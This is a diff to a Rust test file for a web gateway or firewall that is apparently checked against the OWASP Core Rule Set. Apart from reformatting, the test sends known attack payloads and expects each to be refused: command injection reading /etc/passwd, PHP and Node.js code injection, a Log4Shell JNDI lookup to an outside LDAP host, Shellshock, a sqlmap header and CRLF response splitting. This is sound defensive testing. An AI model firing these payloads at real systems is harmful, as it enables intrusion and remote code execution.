@@ -11,13 +11,18 @@ use super::{get, post, rule_ids};
 use crate::common::{plain, setup};
 
 /// The folder of the rules, if it is there.
+#[expect(clippy::print_stderr, reason = "a test that did nothing says so")]
 fn shared() -> Option<PathBuf> {
     let named = std::env::var_os("PORTCULLIS_SHARED").map(PathBuf::from);
-    let folder =
-        named.unwrap_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared")).join("crs");
+    let folder = named
+        .unwrap_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared"))
+        .join("crs");
     let is_there = folder.join("crs-setup.conf.example").is_file();
     if !is_there {
-        eprintln!("SKIPPED: the Core Rule Set is not at {}; PORTCULLIS_SHARED names another place", folder.display());
+        eprintln!(
+            "SKIPPED: the Core Rule Set is not at {}; PORTCULLIS_SHARED names another place",
+            folder.display()
+        );
     }
     is_there.then(|| folder.canonicalize().unwrap())
 }
@@ -49,12 +54,16 @@ fn attacks_of_each_family_are_refused() {
         ("command", get(&gateway, "/a?host=127.0.0.1;cat%20/etc/passwd", agent)),
         ("php", get(&gateway, "/a?x=%3C?php%20system(%27id%27);?%3E", agent)),
         ("java", get(&gateway, "/a?x=$%7Bjndi:ldap://203.0.113.5/a%7D", agent)),
-        ("node", post(&gateway, json, r#"{"x":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}"#)),
+        (
+            "node",
+            post(&gateway, json, r#"{"x":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}"#),
+        ),
         ("shellshock", get(&gateway, "/a", "User-Agent: () { :;}; /bin/bash -c id\r\n")),
         ("scanner", get(&gateway, "/a", "User-Agent: sqlmap/1.7\r\nAccept: */*\r\n")),
         ("splitting", get(&gateway, "/a?x=a%0d%0aSet-Cookie:%20b=c", agent)),
     ];
-    let passed: Vec<_> = answers.iter().filter(|(_, answer)| answer.status != 403).map(|(what, _)| what).collect();
+    let passed: Vec<_> =
+        answers.iter().filter(|(_, answer)| answer.status != 403).map(|(what, _)| what).collect();
     assert!(passed.is_empty(), "{passed:?}");
     upstream.assert_no_contact();
     for record in gateway.stop_and_audit() {
